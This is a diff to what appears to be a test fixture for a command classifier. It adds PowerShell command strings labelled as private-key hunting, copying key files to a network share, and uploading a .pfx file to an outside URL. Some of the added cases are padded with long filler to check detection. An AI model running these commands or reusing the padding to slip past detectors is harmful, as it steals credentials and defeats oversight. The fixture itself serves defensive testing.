@@ -48,6 +48,23 @@ ACTIONS = [
         {"code_integrity_policy"},
         "change_code_integrity_policy",
     ),
+    # however much stands before what tells
+    (
+        f"gci C:\\ -Recurse | sls -Exclude '{'x' * 5_000}' -Pattern 'BEGIN RSA PRIVATE KEY'",
+        {"hunt_key_headers"},
+        "search_keys",
+    ),
+    (
+        f"gci D:\\k -Recurse | ? {{ $_.Name -ne '{'x' * 5_000}' -and $_.Extension -eq '.pfx' }}",
+        {"hunt_key_files"},
+        "search_keys",
+    ),
+    (f"gci {','.join(map(str, range(99)))},C:\\ -Recurse -Include *.pfx", {"hunt_key_files"}, "search_keys"),
+    (
+        f"gci D:\\k\\*.pfx {'| sort ' * 99} | cp -Destination \\\\host\\share",
+        {"list_key_files", "copy_key_files", "key_to_share"},
+        "search_keys",
+    ),
     ("Invoke-WebRequest https://x -Method Post -InFile D:\\keys\\a.pfx", {"upload_key_file"}, "upload_key"),
     ("(New-Object Net.WebClient).UploadFile('https://x', 'D:\\keys\\a.pfx')", {"upload_key_file"}, "upload_key"),
     (
